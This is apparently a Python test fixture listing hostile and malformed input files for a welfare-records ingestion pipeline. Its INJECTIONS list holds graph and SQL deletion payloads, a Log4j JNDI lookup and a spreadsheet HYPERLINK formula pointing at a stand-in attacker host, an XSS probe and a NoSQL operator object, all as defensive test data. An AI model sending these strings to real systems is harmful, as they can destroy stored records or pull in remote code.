"""The hostile-input corpus: files a careless or malicious sender could deliver.

Each case is one exchange file, ingested on top of the two real cases, with what must come of it:
``Rejected(row, field, words)`` (that row refused with that field named, everything else
stored), ``FileRefused(words)`` (the file refused whole) or ``StoredAsIs(kind, key, field, value)``
(a harmless row stored exactly as written, text and all). Either way nothing already stored may
change. The fuzz test seeds its examples from these files too.
"""

from __future__ import annotations

import datetime as dt
import json
from dataclasses import dataclass

from graph.national_id import check_character

HOUSEHOLD = "H-420106-0001"


def id_number(region: str, birth: str, serial: str) -> str:
    first17 = region + birth + serial
    return first17 + check_character(first17)


GOOD_ID = id_number("420106", "19900101", "123")
NEXT_YEAR = dt.date.today().year + 1
FUTURE_ID = id_number("420106", f"{NEXT_YEAR}0101", "123")
BAD_CHECK_ID = GOOD_ID[:17] + ("0" if GOOD_ID[17] != "0" else "1")

#: Strings that would do harm if any engine pasted text into a query instead of binding it.
INJECTIONS = [
    "x'}) MATCH (n) DETACH DELETE n //",
    'x"}) MATCH (n) DETACH DELETE n //',
    "x` MATCH (n) DETACH DELETE n //",
    "'; DROP TABLE nodes; --",
    "1 OR 1=1",
    "${jndi:ldap://attacker.invalid/a}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://attacker.invalid","click")',
    "\\u0000 \\n CALL dbms.killQueries()",
]
PERSON_HEADER = "id_number,name,sex,birth_date,household_id,relation_to_head,hukou_region_code,residence_region_code,disability_grade,chronic_illness,major_illness,labour_capacity,employment,phone,bank_account,deceased_on\n"
AID_HEADER = "record_id,source_department,program_code,beneficiary_type,beneficiary_ref,beneficiary_name,beneficiary_birth_date,amount,period_start,period_end,status,need_id\n"


def person_row(id_no: str = GOOD_ID, *, name: str = "李四", sex: str = "M", birth: str = "1990-01-01", extra: str = "") -> str:
    return f"{id_no},{name},{sex},{birth},{HOUSEHOLD},other,420106,420106,0,false,false,full,employed,,,{extra}\n"


def aid_row(
    record: str = "X-1", *, program: str = "DIBAO", amount: str = "100", start: str = "2024-01-01", end: str = "", dept: str = "MZ"
) -> str:
    return f"{record},{dept},{program},household,{HOUSEHOLD},,,{amount},{start},{end},active,\n"


def csv_quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@dataclass(frozen=True)
class Rejected:
    row: int
    field: str
    words: str


@dataclass(frozen=True)
class FileRefused:
    words: str


@dataclass(frozen=True)
class StoredAsIs:
    kind: str
    key: str
    field: str
    value: object


@dataclass(frozen=True)
class Case:
    name: str
    file: str
    content: bytes
    expect: tuple[Rejected | FileRefused | StoredAsIs, ...]


def _cases() -> list[Case]:
    cases: list[Case] = []
    add = cases.append
    for i, text in enumerate(INJECTIONS):
        # Every free-text field of a file, and a key field, carry the string.
        add(
            Case(
                f"injection-{i}-departments",
                "departments.csv",
                f"department_code,name\nINJ{i},{csv_quote(text)}\n".encode(),
                (StoredAsIs("Department", f"INJ{i}", "name", text),),
            )
        )
        add(
            Case(
                f"injection-{i}-households",
                "households.csv",
                f"household_id,region_code,address,urban_rural,registered_size\nH-INJ-{i},420106005001,{csv_quote(text)},urban,1\n".encode(),
                (StoredAsIs("Household", f"H-INJ-{i}", "address", text),),
            )
        )
        add(
            Case(
                f"injection-{i}-person-name",
                "persons.csv",
                (PERSON_HEADER + person_row(name=csv_quote(text))).encode(),
                (StoredAsIs("Person", GOOD_ID, "name", text),),
            )
        )
        add(
            Case(
                f"injection-{i}-need-description",
                "needs.csv",
                f"need_id,household_id,person_ref,category,urgency,raised_on,status,description\nN-INJ-{i},{HOUSEHOLD},,care,needs_care,2024-01-01,open,{csv_quote(text)}\n".encode(),
                (StoredAsIs("Need", f"N-INJ-{i}", "description", text),),
            )
        )
        add(
            Case(
                f"injection-{i}-resource",
                "resources.jsonl",
                (
                    json.dumps(
                        {
                            "resource_id": "R-INJ",
                            "provider_name": text,
                            "provider_type": "charity",
                            "categories": "care",
                            "region_code": "420106",
                            "capacity": 1,
                            "skills": text,
                        },
                        ensure_ascii=False,
                    )
                    + "\n"
                ).encode(),
                (StoredAsIs("Resource", "R-INJ", "provider_name", text), StoredAsIs("Resource", "R-INJ", "skills", text)),
            )
        )
        add(
            Case(
                f"injection-{i}-key",
                "departments.csv",
                f"department_code,name\n{csv_quote(text)},x\n".encode(),
                (Rejected(2, "department_code", ""),),
            )
        )
    add(
        Case(
            "id-wrong-check-digit",
            "persons.csv",
            (PERSON_HEADER + person_row(BAD_CHECK_ID)).encode(),
            (Rejected(2, "id_number", "check character"),),
        )
    )
    add(
        Case(
            "id-15-digit", "persons.csv", (PERSON_HEADER + person_row("420106900101123")).encode(), (Rejected(2, "id_number", "15-digit"),)
        )
    )
    add(
        Case(
            "id-17-digit", "persons.csv", (PERSON_HEADER + person_row(GOOD_ID[:17])).encode(), (Rejected(2, "id_number", "18 characters"),)
        )
    )
    add(
        Case(
            "id-future-birth",
            "persons.csv",
            (PERSON_HEADER + person_row(FUTURE_ID, birth=f"{NEXT_YEAR}-01-01")).encode(),
            (Rejected(2, "id_number", "in the future"),),
        )
    )
    add(
        Case(
            "birth-date-not-matching",
            "persons.csv",
            (PERSON_HEADER + person_row(birth="1990-01-02")).encode(),
            (Rejected(2, "birth_date", "does not match"),),
        )
    )
    add(
        Case(
            "deceased-in-future",
            "persons.csv",
            (PERSON_HEADER + person_row(extra=f"{NEXT_YEAR}-06-01")).encode(),
            (Rejected(2, "deceased_on", "future"),),
        )
    )
    add(Case("date-2023-02-30", "aid_records.csv", (AID_HEADER + aid_row(start="2023-02-30")).encode(), (Rejected(2, "period_start", ""),)))
    add(Case("date-not-iso", "aid_records.csv", (AID_HEADER + aid_row(start="01/02/2023")).encode(), (Rejected(2, "period_start", ""),)))
    add(Case("amount-negative", "aid_records.csv", (AID_HEADER + aid_row(amount="-500")).encode(), (Rejected(2, "amount", "negative"),)))
    add(Case("amount-huge", "aid_records.csv", (AID_HEADER + aid_row(amount="1e30")).encode(), (Rejected(2, "amount", "large"),)))
    add(Case("amount-nan", "aid_records.csv", (AID_HEADER + aid_row(amount="NaN")).encode(), (Rejected(2, "amount", "finite"),)))
    add(Case("amount-text", "aid_records.csv", (AID_HEADER + aid_row(amount="一千")).encode(), (Rejected(2, "amount", "amount"),)))
    add(
        Case(
            "period-reversed",
            "aid_records.csv",
            (AID_HEADER + aid_row(start="2024-05-01", end="2024-01-31")).encode(),
            (Rejected(2, "period_end", "before"),),
        )
    )
    add(
        Case("unknown-programme", "aid_records.csv", (AID_HEADER + aid_row(program="NO_SUCH")).encode(), (Rejected(2, "program_code", ""),))
    )
    add(Case("unknown-department", "aid_records.csv", (AID_HEADER + aid_row(dept="ZZ")).encode(), (Rejected(2, "source_department", ""),)))
    add(Case("unknown-sex-code", "persons.csv", (PERSON_HEADER + person_row(sex="X")).encode(), (Rejected(2, "sex", ""),)))
    add(
        Case(
            "duplicate-key-in-file",
            "aid_records.csv",
            (AID_HEADER + aid_row("X-1") + aid_row("X-1", amount="200")).encode(),
            (StoredAsIs("AidRecord", "X-1", "amount", 100.0), Rejected(3, "record_id", "duplicate key")),
        )
    )
    add(Case("wrong-delimiter", "departments.csv", b"department_code;name\nZZ;x\n", (FileRefused("delimiter must be a comma"),)))
    add(Case("tab-delimiter", "departments.csv", b"department_code\tname\nZZ\tx\n", (FileRefused("delimiter must be a comma"),)))
    add(
        Case(
            "quoted-newlines",
            "departments.csv",
            'department_code,name\nQN,"民政局\n第二行, with a comma"\n'.encode(),
            (StoredAsIs("Department", "QN", "name", "民政局\n第二行, with a comma"),),
        )
    )
    add(Case("unterminated-quote", "departments.csv", b'department_code,name\nQN,"open\nQ2,x\n', (FileRefused("not valid CSV"),)))
    add(
        Case(
            "utf16-with-bom",
            "departments.csv",
            "department_code,name\r\nU16,民政局\r\n".encode("utf-16"),
            (StoredAsIs("Department", "U16", "name", "民政局"),),
        )
    )
    add(Case("gbk", "departments.csv", "department_code,name\nGBK,民政局\n".encode("gbk"), (FileRefused("GBK"),)))
    add(Case("binary", "departments.csv", b"department_code,name\n\x00\x01\x02\xff\xfe" * 10, (FileRefused(""),)))
    add(Case("header-only-twice", "departments.csv", b"department_code,name,name\nZZ,x,y\n", (FileRefused("appear twice"),)))
    add(Case("empty-file", "departments.csv", b"", (FileRefused("empty"),)))
    add(Case("too-many-cells", "departments.csv", b"department_code,name\nZZ,x,extra\n", (Rejected(2, "(row)", "3 cells"),)))
    add(
        Case(
            "jsonl-operator-object",
            "departments.jsonl",
            b'{"department_code": {"$ne": 1}, "name": "x"}\n',
            (Rejected(1, "department_code", ""),),
        )
    )
    add(Case("jsonl-not-object", "departments.jsonl", b"[1, 2]\n", (Rejected(1, "(row)", "one JSON object"),)))
    add(Case("jsonl-broken", "departments.jsonl", b'{"department_code": "ZZ",\n', (Rejected(1, "(row)", "not valid JSON"),)))
    add(Case("required-empty", "departments.csv", b"department_code,name\nZZ,   \n", (Rejected(2, "name", "required"),)))
    add(Case("overlong-text", "departments.csv", b"department_code,name\nZZ," + b"x" * 5000 + b"\n", (Rejected(2, "name", ""),)))
    return cases


CASES = _cases()
